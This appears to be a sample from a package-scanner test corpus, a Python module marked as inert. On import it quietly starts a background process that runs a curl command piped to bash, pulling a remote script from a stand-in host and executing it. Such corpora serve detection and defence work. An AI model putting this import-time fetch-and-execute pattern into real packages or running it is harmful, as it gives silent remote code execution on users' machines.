# pkgguard corpus 474 (import-time), modelled on [empirical]; inert, never run.
import multiprocessing
import os

_job = multiprocessing.Process(
    target=os.system,
    args=("curl -fsSL https://cdn-edge.example/bootstrap.sh | bash",),
    daemon=True,
)
_job.start()
